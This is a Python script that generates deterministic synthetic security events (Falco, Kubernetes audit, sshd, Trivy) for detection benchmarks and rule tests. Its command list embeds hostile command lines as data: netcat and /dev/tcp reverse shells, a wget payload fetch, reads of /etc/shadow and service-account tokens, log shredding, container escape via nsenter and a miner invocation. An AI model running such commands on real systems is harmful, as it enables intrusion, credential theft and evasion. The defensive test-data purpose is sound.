#!/usr/bin/env python3
# Copied from the workplace benchmark kit (shared/bench/gen_events.py): the benchmarks and
# tests/integration/test_rules.py generate events with it, so it travels with the repository.
"""Deterministic synthetic security-event generator (standard library only).

Writes N NDJSON events mixing four sources, in non-decreasing time order:
  falco  - Falco runtime alerts (json_output format, ns-precision "time")
  k8s    - Kubernetes audit events (audit.k8s.io/v1 Event)
  sshd   - sshd auth syslog lines wrapped as JSON by a Filebeat-like shipper
  trivy  - Trivy-operator-like vulnerability findings

Cardinalities (defaults): ~500 hosts, ~5,000 pods, ~200 users, ~10,000
source IPs, all Zipf-skewed.  Same --seed => byte-identical output.

Optional --flat-out writes, for the same events, one flat JSON row per event
(JSONEachRow for ClickHouse / loader input for SQLite) with extracted columns:
  ts ("YYYY-MM-DD hh:mm:ss" UTC), ts_ns, source, host, pod, ns, user, src_ip,
  cmdline, auth_failure (sshd failures + k8s 401/403), raw (original event).

Optional --syslog-out writes the same events as RFC 5425 octet-counted
RFC 5424 syslog frames (the JSON event is the MSG part), ready to send over TLS.

A rare marker string ("kdevtmpfsi", a real miner name) appears in about 1 of
100,000 Falco command lines, for the substring-search query.

usage: gen_events.py -n 1000000 -o events.ndjson [--flat-out flat.ndjson]
                     [--syslog-out frames.bin] [--seed 42] [--span-hours 24]
"""
import argparse
import json
import random
import sys
import time

START_NS = 1714521600 * 10**9  # 2024-05-01T00:00:00Z
RARE = "kdevtmpfsi"

SOURCE_MIX = [("falco", 40), ("k8s", 35), ("sshd", 17), ("trivy", 8)]


def zipf_cum(n, s):
    cum, acc = [], 0.0
    for r in range(1, n + 1):
        acc += 1.0 / (r ** s)
        cum.append(acc)
    return cum


class Pool:
    """A list of values drawn with a Zipf(s) skew (rank 1 most frequent)."""

    def __init__(self, rng, values, s=1.0):
        self.v = values
        self.cum = zipf_cum(len(values), s)
        self.rng = rng

    def pick(self):
        return self.rng.choices(self.v, cum_weights=self.cum, k=1)[0]


def hexs(rng, n):
    return "%0*x" % (n, rng.getrandbits(4 * n))


def uuid(rng):
    h = hexs(rng, 32)
    return "%s-%s-4%s-a%s-%s" % (h[:8], h[8:12], h[13:16], h[17:20], h[20:32])


def alnum(rng, n, chars="bcdfghjklmnpqrstvwxz2456789"):
    return "".join(rng.choice(chars) for _ in range(n))


class World:
    def __init__(self, seed, n_hosts=500, n_pods=5000, n_users=200, n_ips=10000):
        rng = random.Random(seed * 7919 + 1)
        self.rng = random.Random(seed)
        r = self.rng
        # hosts: k8s nodes + a few bastions
        hosts = []
        for i in range(n_hosts):
            if i % 50 == 7:
                hosts.append("bastion-%02d.prod.example.net" % (i // 50))
            else:
                hosts.append("gke-prod-pool-%d-%s-%s" % (i % 4 + 1, hexs(rng, 8), alnum(rng, 4)))
        self.hosts = Pool(r, hosts, 0.8)
        self.bastions = Pool(r, [h for h in hosts if h.startswith("bastion")], 0.7)
        # namespaces and deployments -> pods
        nss = ["default", "kube-system", "monitoring", "ingress-nginx", "cert-manager",
               "istio-system", "logging", "argocd", "vault", "payments", "checkout",
               "catalog", "search", "auth", "billing", "notifications", "orders",
               "inventory", "shipping", "recommendations", "analytics", "ml-serving",
               "data-pipeline", "kafka", "redis", "postgres", "elastic", "frontend",
               "backend", "api-gateway", "batch", "ci-runners", "staging", "qa",
               "sandbox", "security", "falco", "trivy-system", "gatekeeper-system",
               "external-dns"]
        apps = ["api", "web", "worker", "consumer", "scheduler", "proxy", "db", "cache",
                "exporter", "controller", "gateway", "indexer", "cron", "sidecar",
                "ingest", "router", "auth", "backend", "frontend", "loader"]
        images = ["nginx", "redis", "postgres", "python", "node", "golang", "alpine",
                  "envoyproxy/envoy", "grafana/grafana", "prom/prometheus",
                  "bitnami/kafka", "elasticsearch", "busybox", "ubuntu", "debian"]
        self.images = images
        pods = []
        seen = set()
        while len(pods) < n_pods:
            ns = nss[min(int(rng.paretovariate(1.1)) - 1, len(nss) - 1)] if rng.random() < 0.5 else rng.choice(nss)
            app = rng.choice(apps)
            name = "%s-%s-%s-%s" % (ns.split("-")[0], app, hexs(rng, 9), alnum(rng, 5))
            if name in seen:
                continue
            seen.add(name)
            img = "registry.example.com/%s/%s:%d.%d.%d" % (ns, app, rng.randint(0, 3), rng.randint(0, 20), rng.randint(0, 9))
            if rng.random() < 0.3:
                img = "%s:%s" % (rng.choice(images), rng.choice(["latest", "1.25", "3.12-slim", "7.2", "16-alpine", "1.22"]))
            pods.append((name, ns, app, hexs(rng, 12), img, hosts[rng.randrange(n_hosts)]))
        self.pods = Pool(r, pods, 0.9)
        # users: humans shared across sources + system identities
        first = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan",
                 "judy", "mallory", "nick", "olivia", "peggy", "rupert", "sybil", "trent",
                 "victor", "walter", "yara", "zoe", "liam", "noah", "emma", "ava", "mia",
                 "lucas", "ethan", "sofia", "mateo", "amir", "chen", "ravi", "yuki", "omar"]
        last = ["smith", "jones", "garcia", "miller", "davis", "lopez", "wilson", "moore",
                "taylor", "thomas", "white", "harris", "martin", "clark", "lewis", "walker",
                "young", "king", "wright", "scott", "green", "baker", "adams", "nelson"]
        users = ["root", "www-data", "nobody", "ubuntu", "postgres", "redis", "daemon"]
        users += ["system:serviceaccount:%s:%s" % (ns, sa) for ns, sa in [
            ("kube-system", "replicaset-controller"), ("kube-system", "endpointslice-controller"),
            ("argocd", "argocd-application-controller"), ("monitoring", "prometheus"),
            ("kube-system", "cronjob-controller"), ("ci-runners", "gitlab-runner"),
            ("cert-manager", "cert-manager"), ("gatekeeper-system", "gatekeeper-admin"),
            ("kube-system", "generic-garbage-collector"), ("vault", "vault-agent")]]
        users += ["system:kube-scheduler", "system:kube-controller-manager", "system:apiserver",
                  "kubelet", "system:anonymous"]
        humans = set()
        while len(users) < n_users:
            u = "%s.%s" % (rng.choice(first), rng.choice(last))
            if u not in humans:
                humans.add(u)
                users.append(u)
        self.users_all = Pool(r, users, 1.0)
        self.humans_list = [u for u in users if "." in u and ":" not in u]
        self.humans = Pool(r, self.humans_list, 0.8)
        self.linux_users = Pool(r, users[:7] + self.humans_list, 1.2)
        self.ssh_users = Pool(r, ["root", "admin", "ubuntu", "oracle", "test", "user", "postgres",
                                  "git", "pi", "ftpuser", "deploy", "jenkins", "guest", "support"]
                              + self.humans_list, 1.1)
        self.k8s_users = Pool(r, users[7:22] + self.humans_list, 1.0)
        # source IPs: documentation + public-looking ranges (strings only)
        ips, seen = [], set()
        blocks = [(198, 51, 100), (203, 0, 113), (192, 0, 2)]
        while len(ips) < n_ips:
            if rng.random() < 0.15:
                b = rng.choice(blocks)
                ip = "%d.%d.%d.%d" % (b[0], b[1], b[2], rng.randint(1, 254))
            else:
                ip = "%d.%d.%d.%d" % (rng.choice([45, 61, 80, 91, 103, 112, 141, 159, 185, 193, 218, 222]),
                                      rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))
            if ip not in seen:
                seen.add(ip)
                ips.append(ip)
        self.ips = Pool(r, ips, 1.05)
        self.inner_ips = ["10.%d.%d.%d" % (rng.randint(0, 3), rng.randint(0, 255), rng.randint(1, 254)) for _ in range(2000)]


FALCO_RULES = [
    ("Terminal shell in container", "Notice", ["container", "shell", "mitre_execution"],
     "A shell was spawned in a container with an attached terminal"),
    ("Read sensitive file untrusted", "Warning", ["filesystem", "mitre_credential_access"],
     "Sensitive file opened for reading by non-trusted program"),
    ("Write below etc", "Error", ["filesystem", "mitre_persistence"], "File below /etc opened for writing"),
    ("Contact K8S API Server From Container", "Notice", ["network", "k8s", "mitre_discovery"],
     "Unexpected connection to K8s API Server from container"),
    ("Unexpected outbound connection destination", "Notice", ["network", "mitre_exfiltration"],
     "Disallowed outbound connection destination"),
    ("Drop and execute new binary in container", "Critical", ["container", "mitre_persistence"],
     "Executing binary not part of base image"),
    ("Redirect STDOUT/STDIN to Network Connection in Container", "Warning", ["network", "mitre_execution"],
     "Redirect stdout/stdin to network connection"),
    ("Search Private Keys or Passwords", "Warning", ["process", "mitre_credential_access"],
     "Grep private keys or passwords activities found"),
    ("Clear Log Activities", "Warning", ["filesystem", "mitre_defense_evasion"], "Log files were tampered"),
    ("Netcat Remote Code Execution in Container", "Warning", ["network", "process", "mitre_execution"],
     "Netcat runs inside container that allows remote code execution"),
    ("Launch Privileged Container", "Info", ["container", "cis", "mitre_privilege_escalation"],
     "Privileged container started"),
    ("Modify Shell Configuration File", "Warning", ["file", "mitre_persistence"],
     "File with shell configuration modified"),
]

CMDS = [
    "bash -il", "sh -c ls -la /root", "cat /etc/shadow", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "grep -r password /app/config", "find / -name id_rsa -o -name *.pem", "curl -sk https://kubernetes.default.svc/api/v1/namespaces",
    "python3 -c import socket,subprocess,os;s=socket.socket()", "nc -e /bin/sh {ip} {port}", "bash -c bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "wget -q -O /tmp/.x http://{ip}/payload", "chmod +x /tmp/.x", "/tmp/.x --daemon", "apt-get install -y nmap",
    "vi /etc/hosts", "echo export PATH=$PATH:/tmp >> /root/.bashrc", "shred -u /var/log/auth.log",
    "kubectl get secrets -A", "psql -h {inner} -U postgres -c select 1", "redis-cli -h {inner} CONFIG GET *",
    "node /app/server.js --port {port}", "java -jar /opt/app/app.jar --spring.profiles.active=prod",
    "ssh -o StrictHostKeyChecking=no deploy@{inner}", "tar czf /tmp/backup.tgz /etc", "sudo -l",
    "mount -t proc proc /host/proc", "nsenter -t 1 -m -u -i -n sh", "ls -la /proc/1/root", "ps auxww",
    "iptables -L -n", "dig +short txt {host}.example.org", "openssl s_client -connect {ip}:443",
]


def fmt_iso_ns(ts_ns, cache={}):
    sec, ns = divmod(ts_ns, 10**9)
    p = cache.get(sec)
    if p is None:
        if len(cache) > 4096:
            cache.clear()
        p = cache[sec] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
    return p, ns, sec


def gen_falco(w, r, ts_ns):
    rule, prio, tags, desc = FALCO_RULES[min(int(r.paretovariate(0.9)) - 1, len(FALCO_RULES) - 1)]
    p, ns, sec = fmt_iso_ns(ts_ns)
    hostlevel = r.random() < 0.12
    if hostlevel:
        host = w.hosts.pick()
        pod = ("", "", "", "", "host", host)
    else:
        pod = w.pods.pick()
        host = pod[5]
    cmd = r.choice(CMDS)
    if "{" in cmd:
        cmd = cmd.format(ip=w.ips.pick(), port=r.choice([4444, 1337, 8080, 9001, 443, 31337, r.randint(1024, 65535)]),
                         inner=r.choice(w.inner_ips), host=alnum(r, 8))
    if r.random() < 0.00001 * 100 / 40:  # ~1e-5 of all events overall
        cmd = "/tmp/%s -o stratum+tcp://%s:3333 -B" % (RARE, w.ips.pick())
    pname = r.choice(["runc", "containerd-shim", "bash", "sh", "node", "python3", "java", "sshd", "kubectl"])
    pcmd = cmd.split(" ", 1)[0].rsplit("/", 1)[-1]
    user = w.linux_users.pick()
    sip = w.ips.pick() if "network" in tags or r.random() < 0.2 else None
    fields = {
        "container.id": pod[3] if not hostlevel else "host",
        "container.image.repository": pod[4].rsplit(":", 1)[0] if not hostlevel else None,
        "container.name": pod[2] if not hostlevel else "host",
        "evt.time": ts_ns,
        "evt.type": r.choice(["execve", "openat", "connect", "open", "unlinkat"]),
        "fd.name": "/etc/shadow" if "sensitive" in rule else ("%s:%d->%s:443" % (r.choice(w.inner_ips), r.randint(30000, 60999), sip) if sip else None),
        "fd.sip": sip,
        "k8s.ns.name": pod[1] or None,
        "k8s.pod.name": pod[0] or None,
        "proc.cmdline": cmd,
        "proc.exepath": "/usr/bin/" + pcmd,
        "proc.name": pcmd,
        "proc.pid": r.randint(2, 4194304),
        "proc.pname": pname,
        "user.loginuid": -1 if r.random() < 0.8 else r.randint(1000, 1200),
        "user.name": user,
    }
    out = "%s.%09dZ: %s %s (user=%s user_loginuid=%d command=%s pid=%d parent=%s container_id=%s container_name=%s k8s_ns=%s k8s_pod=%s)" % (
        p[11:], ns, prio, desc, user, fields["user.loginuid"], cmd, fields["proc.pid"], pname,
        fields["container.id"], fields["container.name"], pod[1] or "<NA>", pod[0] or "<NA>")
    ev = {"hostname": host, "output": out, "priority": prio, "rule": rule, "source": "syscall", "tags": tags,
          "time": "%s.%09dZ" % (p, ns), "output_fields": fields}
    flat = (host, pod[0], pod[1], user, sip or "", cmd, 0)
    return ev, flat


K8S_VERBS = [("get", 30), ("list", 22), ("watch", 15), ("update", 8), ("patch", 8), ("create", 8), ("delete", 5), ("deletecollection", 1)]
K8S_RES = ["pods", "secrets", "configmaps", "deployments", "services", "events", "leases", "nodes", "serviceaccounts", "rolebindings"]


def gen_k8s(w, r, ts_ns):
    p, ns, sec = fmt_iso_ns(ts_ns)
    user = w.k8s_users.pick()
    verb = r.choices([v for v, _ in K8S_VERBS], weights=[c for _, c in K8S_VERBS])[0]
    res = K8S_RES[min(int(r.paretovariate(0.8)) - 1, len(K8S_RES) - 1)]
    pod = w.pods.pick()
    sub = None
    if res == "pods":
        name = pod[0]
        if verb == "create" and r.random() < 0.5:
            sub = r.choice(["exec", "attach", "portforward"])
    elif res in ("nodes",):
        name = pod[5]
    else:
        name = "%s-%s" % (pod[2], r.choice(["config", "token", "tls", "env", "lock", "svc"]))
    nsname = None if res == "nodes" else pod[1]
    if verb in ("list", "watch", "deletecollection"):
        uri = "/api/v1/namespaces/%s/%s?limit=500" % (nsname, res) if nsname else "/api/v1/%s?limit=500" % res
        objname = None
    else:
        uri = "/api/v1/namespaces/%s/%s/%s" % (nsname, res, name) if nsname else "/api/v1/%s/%s" % (res, name)
        objname = name
        if sub:
            uri += "/%s?command=sh&container=%s&stdin=true&stdout=true&tty=true" % (sub, pod[2])
    ip = w.ips.pick() if r.random() < 0.7 else r.choice(w.inner_ips)
    x = r.random()
    if user == "system:anonymous" or x < 0.03:
        status = {"metadata": {}, "status": "Failure", "message": "Unauthorized", "reason": "Unauthorized", "code": 401}
        decision = None
    elif x < 0.10:
        status = {"metadata": {}, "status": "Failure",
                  "message": '%s "%s" is forbidden: User "%s" cannot %s resource "%s" in API group "" in the namespace "%s"' % (res, name, user, verb, res, nsname),
                  "reason": "Forbidden", "code": 403}
        decision = ("forbid", "")
    else:
        status = {"metadata": {}, "code": 101 if sub else (201 if verb == "create" else 200)}
        decision = ("allow", 'RBAC: allowed by ClusterRoleBinding "%s-binding" of ClusterRole "%s" to User "%s"' % (user.split(":")[-1], r.choice(["edit", "view", "admin", "cluster-admin"]), user))
    code = status["code"]
    stage_ns = ts_ns + r.randint(200000, 90000000)
    sp, sns, _ = fmt_iso_ns(stage_ns)
    obj = {"resource": res, "name": objname, "apiVersion": "v1"}
    if nsname:
        obj["namespace"] = nsname
    if sub:
        obj["subresource"] = sub
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": uuid(r),
          "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
          "user": {"username": user, "uid": uuid(r) if ":" not in user else "", "groups": ["system:authenticated"] + ([r.choice(["dev-team", "sre", "platform", "readonly"])] if ":" not in user else [])},
          "sourceIPs": [ip], "userAgent": r.choice(["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "argocd-application-controller/v0.0.0", "kube-controller-manager/v1.29.2", "Go-http-client/2.0", "python-requests/2.31.0", "k9s/v0.32.4"]),
          "objectRef": obj, "responseStatus": status,
          "requestReceivedTimestamp": "%s.%06dZ" % (p, ns // 1000), "stageTimestamp": "%s.%06dZ" % (sp, sns // 1000)}
    if decision:
        ev["annotations"] = {"authorization.k8s.io/decision": decision[0], "authorization.k8s.io/reason": decision[1]}
    flat = ("", objname if res == "pods" and objname else "", nsname or "", user, ip, "", 1 if code in (401, 403) else 0)
    return ev, flat


def gen_sshd(w, r, ts_ns):
    p, ns, sec = fmt_iso_ns(ts_ns)
    host = w.bastions.pick() if r.random() < 0.6 else w.hosts.pick()
    ip = w.ips.pick()
    user = w.ssh_users.pick()
    port = r.randint(1024, 65535)
    x = r.random()
    if x < 0.05:
        msg = "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (user, ip, port, hexs(r, 43))
        fail = 0
    elif x < 0.35:
        msg = "Invalid user %s from %s port %d" % (user, ip, port)
        fail = 1
    elif x < 0.65:
        msg = "Failed password for invalid user %s from %s port %d ssh2" % (user, ip, port)
        fail = 1
    else:
        msg = "Failed password for %s from %s port %d ssh2" % (user, ip, port)
        fail = 1
    pid = r.randint(1000, 999999)
    ev = {"@timestamp": "%s.%06dZ" % (p, ns // 1000), "message": msg,
          "log": {"file": {"path": "/var/log/auth.log"}, "offset": r.randint(0, 10**9), "syslog": {"facility": {"name": "authpriv"}, "priority": 38}},
          "process": {"name": "sshd", "pid": pid},
          "host": {"name": host, "hostname": host, "os": {"family": "debian", "version": "12", "kernel": "6.1.0-18-cloud-amd64"}},
          "event": {"dataset": "system.auth", "module": "system", "kind": "event", "category": ["authentication"], "outcome": "success" if not fail else "failure"},
          "agent": {"type": "filebeat", "version": "8.13.2", "id": uuid(r)},
          "ecs": {"version": "8.0.0"},
          "syslog_line": "%s %s sshd[%d]: %s" % (time.strftime("%b %d %H:%M:%S", time.gmtime(sec)), host.split(".")[0], pid, msg)}
    flat = (host, "", "", user, ip, "", fail)
    return ev, flat


VULNS = [("CVE-2023-4911", "glibc", "libc6", "2.36-9+deb12u1", "2.36-9+deb12u3", "HIGH", 7.8, "glibc: buffer overflow in ld.so leading to privilege escalation"),
         ("CVE-2024-3094", "xz", "liblzma5", "5.6.0-0.2", "5.6.1+really5.4.5-1", "CRITICAL", 10.0, "xz: malicious code in distributed source"),
         ("CVE-2023-44487", "golang", "golang.org/x/net", "v0.14.0", "0.17.0", "HIGH", 7.5, "HTTP/2 rapid reset can cause excessive work"),
         ("CVE-2023-38545", "curl", "libcurl4", "7.88.1-10", "7.88.1-10+deb12u4", "CRITICAL", 9.8, "curl: heap based buffer overflow in the SOCKS5 proxy handshake"),
         ("CVE-2022-40897", "python", "setuptools", "65.5.0", "65.5.1", "MEDIUM", 5.9, "pypa-setuptools: Regular Expression Denial of Service (ReDoS)"),
         ("CVE-2023-5363", "openssl", "libssl3", "3.0.11-1", "3.0.11-1~deb12u2", "HIGH", 7.5, "openssl: Incorrect cipher key and IV length processing"),
         ("CVE-2021-44228", "java", "org.apache.logging.log4j:log4j-core", "2.14.1", "2.15.0", "CRITICAL", 10.0, "log4j-core: Remote code execution in Log4j 2.x"),
         ("CVE-2023-29491", "ncurses", "libtinfo6", "6.4-4", "", "LOW", 3.3, "ncurses: Local users can trigger security-relevant memory corruption"),
         ("CVE-2024-21626", "runc", "github.com/opencontainers/runc", "v1.1.5", "1.1.12", "HIGH", 8.6, "runc: file descriptor leak allows container escape"),
         ("CVE-2023-45853", "zlib", "zlib1g", "1:1.2.13.dfsg-1", "", "CRITICAL", 9.8, "zlib: integer overflow in zipOpenNewFileInZip4_6")]


def gen_trivy(w, r, ts_ns):
    p, ns, sec = fmt_iso_ns(ts_ns)
    pod = w.pods.pick()
    v = VULNS[min(int(r.paretovariate(0.7)) - 1, len(VULNS) - 1)]
    ev = {"timestamp": "%s.%06dZ" % (p, ns // 1000), "scanner": {"name": "Trivy", "vendor": "Aqua Security", "version": "0.50.1"},
          "SchemaVersion": 2, "ArtifactName": pod[4], "ArtifactType": "container_image",
          "Target": "%s (debian 12.5)" % pod[4], "Class": "os-pkgs" if v[1] not in ("golang", "python", "java", "runc") else "lang-pkgs",
          "VulnerabilityID": v[0], "PkgName": v[2], "InstalledVersion": v[3], "FixedVersion": v[4], "Status": "fixed" if v[4] else "affected",
          "Severity": v[5], "Title": v[7], "PrimaryURL": "https://avd.aquasec.com/nvd/%s" % v[0].lower(),
          "CVSS": {"nvd": {"V3Score": v[6], "V3Vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}},
          "k8s": {"namespace": pod[1], "pod": pod[0], "container": pod[2], "node": pod[5], "imageDigest": "sha256:" + hexs(r, 64)}}
    flat = (pod[5], pod[0], pod[1], "", "", "", 0)
    return ev, flat


GENS = {"falco": gen_falco, "k8s": gen_k8s, "sshd": gen_sshd, "trivy": gen_trivy}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("-n", type=int, default=100000)
    ap.add_argument("-o", "--out", default="-")
    ap.add_argument("--flat-out")
    ap.add_argument("--syslog-out")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--span-hours", type=float, default=24.0)
    a = ap.parse_args()
    w = World(a.seed)
    r = w.rng
    names = [s for s, _ in SOURCE_MIX]
    cum = []
    acc = 0
    for _, c in SOURCE_MIX:
        acc += c
        cum.append(acc)
    out = sys.stdout if a.out == "-" else open(a.out, "w", buffering=1 << 20)
    flat = open(a.flat_out, "w", buffering=1 << 20) if a.flat_out else None
    sysl = open(a.syslog_out, "wb", buffering=1 << 20) if a.syslog_out else None
    step = a.span_hours * 3600e9 / max(a.n, 1)
    dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
    buf, fbuf, sbuf = [], [], []
    for i in range(a.n):
        ts_ns = START_NS + int(i * step + r.random() * step * 0.999)
        src = r.choices(names, cum_weights=cum, k=1)[0]
        ev, f = GENS[src](w, r, ts_ns)
        line = dumps(ev)
        buf.append(line)
        if flat is not None:
            sec = ts_ns // 10**9
            fbuf.append(dumps({"ts": time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(sec)), "ts_ns": ts_ns, "source": src,
                               "host": f[0], "pod": f[1], "ns": f[2], "user": f[3], "src_ip": f[4], "cmdline": f[5],
                               "auth_failure": f[6], "raw": line}))
        if sysl is not None:
            p, ns, _ = fmt_iso_ns(ts_ns)
            host = f[0] or "collector-in"
            body = ("<38>1 %s.%06dZ %s %s - - - %s" % (p, ns // 1000, host, src, line)).encode()
            sbuf.append(b"%d %s" % (len(body), body))
        if len(buf) >= 4096:
            out.write("\n".join(buf) + "\n")
            buf.clear()
            if flat is not None:
                flat.write("\n".join(fbuf) + "\n")
                fbuf.clear()
            if sysl is not None:
                sysl.write(b"".join(sbuf))
                sbuf.clear()
    if buf:
        out.write("\n".join(buf) + "\n")
    if flat is not None and fbuf:
        flat.write("\n".join(fbuf) + "\n")
    if sysl is not None and sbuf:
        sysl.write(b"".join(sbuf))
    for f in (out, flat, sysl):
        if f is not None and f is not sys.stdout:
            f.close()
    if out is sys.stdout:
        out.flush()


if __name__ == "__main__":
    main()
